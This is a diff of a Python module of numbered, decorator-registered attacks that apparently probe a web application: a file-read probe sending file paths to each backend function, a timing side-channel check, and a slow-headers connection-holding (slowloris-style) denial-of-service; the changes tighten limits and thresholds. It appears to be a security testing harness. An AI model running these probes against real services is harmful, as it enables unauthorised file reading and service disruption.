@@ -312,7 +312,7 @@ def fetches(target: Target) -> str | None:
         config = client.get(f"{target.address}/config").json()
         numbers = [event["id"] for event in config["dependencies"] if event["backend_fn"]]
         for place, file in enumerate(_files(f"{url}/inside")):
-            for number in numbers[place % 7 :: 7][:12]:
+            for number in numbers[place % 7 :: 7][:4]:
                 body = (
                     f'{{"data": [{file}, [{file}], {{"deep": {file}}}, {json.dumps(file)}],'
                     f' "fn_index": {number}, "session_hash": "{secrets.token_hex(8)}"}}'
@@ -386,7 +386,8 @@ def timing(target: Target) -> str | None:
                 raise NotTried("held back already")
             times[name].append(time.monotonic() - started)
     one, other = (statistics.median(values) for values in times.values())
-    return f"{one:.2f} s against {other:.2f} s" if abs(one - other) > 0.15 else None
+    told = abs(one - other) > 0.05 + 0.2 * min(one, other)
+    return f"{one:.2f} s against {other:.2f} s" if told else None
 
 
 @attack(5, "checking passwords keeps everybody else waiting", timed=True)
@@ -533,7 +534,7 @@ def _rpc(client: httpx.Client, target: Target, method: str, parameters: object) 
 # --- 20, 21 ---------------------------------------------------------------------------------------
 
 
-@attack(20, "a connection that says nothing more is kept for ever")
+@attack(20, "a connection that says nothing more is kept for ever", timed=True)
 def slow_headers(target: Target, seconds: float = 25) -> str | None:
     host, port = urlsplit(target.address).hostname, urlsplit(target.address).port
     with socket.create_connection((host or "", port or 80), timeout=seconds) as connection:
